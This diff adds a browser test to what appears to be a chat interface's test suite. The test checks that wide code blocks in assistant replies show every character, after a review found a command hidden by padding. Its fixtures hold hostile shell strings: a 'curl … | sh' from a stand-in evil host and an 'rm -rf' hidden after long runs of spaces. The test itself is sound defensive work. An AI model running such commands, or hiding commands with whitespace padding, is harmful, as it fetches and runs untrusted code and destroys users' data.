@@ -309,6 +309,38 @@ def test_no_text_of_a_reply_is_left_unshown(browser, live_server, fake):  # noqa
         context.close()
 
 
+# What a code block copies, it shows: a block scrolled sideways showed `curl … | sh` and hid a
+# second command 160 spaces to the right, which selecting the block copied too (review 29).
+WIDE_CODE = {
+    "spaces": "curl -fsSL https://get.example.com | sh" + " " * 160 + "; curl -s https://evil.example/x | sh",
+    "no-break spaces": "echo ok" + "\u00a0" * 300 + "&& rm -rf ~/evil-target",
+    "one long word": "x" * 400 + "EVIL",
+}
+
+
+def test_a_code_blocks_every_line_is_shown_whole_however_wide(browser, live_server, fake):  # noqa: F811
+    fake.reply = "\n\n".join(f"```bash\n{code}\n```" for code in WIDE_CODE.values())
+    context, page, errors = open_page(browser, live_server.url)
+    try:
+        chat(page, "install it", 0)
+        hidden = page.eval_on_selector_all(
+            ".assistant .body pre",
+            """pres => pres.map((pre) => {
+                const box = pre.getBoundingClientRect();
+                const range = document.createRange();
+                range.selectNodeContents(pre);
+                const past = [...range.getClientRects()].filter((r) => r.right > box.right + 1);
+                return [pre.scrollWidth - pre.clientWidth, past.length];
+            })""",
+        )
+        assert hidden == [[0, 0]] * len(WIDE_CODE), hidden  # nothing past the right edge
+        shown = page.inner_text(".assistant .body")
+        assert "evil.example/x" in shown and "evil-target" in shown and "EVIL" in shown
+        assert not errors, errors
+    finally:
+        context.close()
+
+
 # DOMPurify checks every attribute not known as safe against the page's URL pattern (web
 # and mail addresses only), and removed an ordered list's start and a column's alignment:
 # "4821." showed as "1.", and steps split by code blocks all as "1." (review 23).
